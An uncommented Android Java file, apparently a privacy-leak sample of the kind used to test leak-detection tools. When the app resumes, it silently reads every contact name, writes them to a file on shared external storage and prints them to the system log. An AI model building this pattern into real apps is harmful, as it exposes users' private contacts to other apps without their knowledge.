package dev.lender.written;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import android.util.Xml;
import java.io.*;
import java.util.*;
import org.xmlpull.v1.XmlSerializer;

public class Main extends Activity {

    protected void onResume() {
        super.onResume();
        new Dump(this).start();
    }

    static class Dump extends Thread {

        private final Context c;

        Dump(Context c) {
            this.c = c;
        }

        public void run() {
            try {
                ArrayList<HashMap<String, String>> l = new ArrayList<>();
                Cursor k = c
                    .getContentResolver()
                    .query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
                while (k.moveToNext()) {
                    HashMap<String, String> m = new HashMap<>();
                    m.put("n", k.getString(1));
                    l.add(m);
                }
                k.close();
                ObjectOutputStream o = new ObjectOutputStream(
                    new FileOutputStream(
                        new File(Environment.getExternalStorageDirectory(), "b.obj")
                    )
                );
                o.writeObject(l);
                o.close();
                XmlSerializer x = Xml.newSerializer();
                StringWriter sw = new StringWriter();
                x.setOutput(sw);
                x.startTag(null, "p");
                for (HashMap<String, String> m : l) {
                    x.startTag(null, "i");
                    x.text(m.get("n"));
                    x.endTag(null, "i");
                }
                x.endTag(null, "p");
                x.flush();
                android.util.Log.d("x", sw.toString());
            } catch (IOException e) {}
        }
    }
}
